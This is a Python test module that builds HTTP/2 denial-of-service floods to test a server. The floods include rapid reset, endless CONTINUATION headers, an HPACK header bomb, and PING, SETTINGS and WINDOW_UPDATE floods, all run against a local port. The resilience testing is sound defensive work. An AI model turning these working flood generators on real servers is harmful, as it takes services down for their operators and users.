"""Floods over HTTP/2: many frames that cost their sender little.

An attacker has one connection at a time. When it is told off it comes back, at most so often.
"""

from __future__ import annotations

import time
from collections import Counter
from collections.abc import Callable

from hpack import Encoder

from tests.attacks.peer import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEAD,
    HEADERS,
    ONE,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Peer,
    frame,
    settings,
)
from tests.kit.pipeline import encode

COME_BACK = 0.1
"""Seconds between two connections of one attacker."""

CANCEL = (8).to_bytes(4, "big")
NONE = bytes(4)
MESSAGE = encode({"key": ["x"], "value": ["1"]})
BODY = b"\0" + len(MESSAGE).to_bytes(4, "big") + MESSAGE

Flood = Callable[[int, float], Counter[str]]


def flood(make: Callable[[Peer], bytes], *, until_told: bool = True) -> Flood:
    """An attacker that sends what ``make`` gives, again and again.

    Args:
        make: some KiB of frames for this connection.
        until_told: come back as soon as the server has said that it is over.
    """

    def run(port: int, until: float) -> Counter[str]:
        heard: Counter[str] = Counter()
        while time.monotonic() < until:
            peer = Peer(port, http2=True)
            while time.monotonic() < until and peer.send(make(peer)):
                peer.listen()
                if until_told and peer.told_off:
                    break
            peer.listen(0.3)
            heard += peer.heard
            peer.close()
            time.sleep(COME_BACK)
        return heard

    return run


def rapid_reset(peer: Peer) -> bytes:
    """Calls that are given up at once; every other one is complete."""
    frames = []
    for n in range(50):
        id = peer.stream()
        frames.append(frame(HEADERS, END_HEADERS, id, HEAD))
        if n % 2:
            frames.append(frame(DATA, END_STREAM, id, BODY))
        frames.append(frame(RST_STREAM, 0, id, CANCEL))
    return b"".join(frames)


def made_reset(peer: Peer) -> bytes:
    """Complete calls, and then a fault for which the server must reset them."""
    frames = []
    for n in range(50):
        id = peer.stream()
        frames.append(frame(HEADERS, END_HEADERS, id, HEAD))
        if n % 3 == 0:
            frames.append(frame(WINDOW_UPDATE, 0, id, NONE))
        elif n % 3 == 1:
            frames.append(frame(DATA, END_STREAM, id, BODY))
            frames.append(frame(WINDOW_UPDATE, 0, id, NONE))
        else:
            frames.append(frame(PRIORITY, 0, id, id.to_bytes(4, "big") + b"\0"))
    return b"".join(frames)


def continuations(size: int) -> Callable[[Peer], bytes]:
    """A header block that never ends, in pieces of some size."""

    def make(peer: Peer) -> bytes:
        # A field that may not be indexed, with a long value, whatever it is cut into.
        piece = b"\x00\x01a\x7f\x81\x7f" + b"b" * 16384
        start = b""
        if peer.next == 1:
            start = frame(HEADERS, 0, peer.stream(), HEAD)
        more = frame(CONTINUATION, 0, peer.next - 2, piece[:size])
        return start + more * max(1, 16384 // (size + 9))

    return make


def empty_data(peer: Peer) -> bytes:
    """DATA without content."""
    start = b""
    if peer.next == 1:
        start = frame(HEADERS, END_HEADERS, peer.stream(), HEAD)
    return start + frame(DATA, 0, 1) * 500


def tiny_data(peer: Peer) -> bytes:
    """DATA of a byte each, which costs as much as a large one."""
    start = b""
    if peer.next == 1:
        start = frame(HEADERS, END_HEADERS, peer.stream(), HEAD) + frame(
            DATA, 0, 1, b"\0\3\xe8\0\0"
        )
    return start + frame(DATA, 0, 1, b"x") * 1000


def empty_headers(peer: Peer) -> bytes:
    """Requests without a field, and trailers without one."""
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, peer.stream()) for _ in range(200))


def bomb(peer: Peer) -> bytes:
    """One long field in the table, and heads that name it by a byte, many times."""
    start = b""
    if peer.next == 1:
        encoder = Encoder()
        start = encoder.encode([("bomb", "b" * 3900)], huffman=False)
    frames = []
    for _ in range(4):
        block = HEAD + start + b"\xbe" * 16000
        start = b""
        frames.append(frame(HEADERS, END_HEADERS | END_STREAM, peer.stream(), block[:16384]))
    return b"".join(frames)


def pings(peer: Peer) -> bytes:
    """Each has to be answered."""
    return frame(PING, 0, 0, bytes(8)) * 500


def many_settings(peer: Peer) -> bytes:
    """Each has to be acknowledged, and moves the windows of all streams."""
    start = b""
    if peer.next == 1:
        start = b"".join(frame(HEADERS, END_HEADERS, peer.stream(), HEAD) for _ in range(100))
    both = frame(SETTINGS, payload=settings(s4=1)) + frame(SETTINGS, payload=settings(s4=1 << 20))
    return start + both * 200


def window_updates(peer: Peer) -> bytes:
    """Room for a byte more, again and again."""
    return frame(WINDOW_UPDATE, 0, 0, ONE) * 500


def priorities(peer: Peer) -> bytes:
    """Of streams that nobody has opened."""
    return frame(PRIORITY, 0, 9, bytes(5)) * 500


def unknown(peer: Peer) -> bytes:
    """Frames of a kind that does not exist."""
    return frame(0xBB) * 500
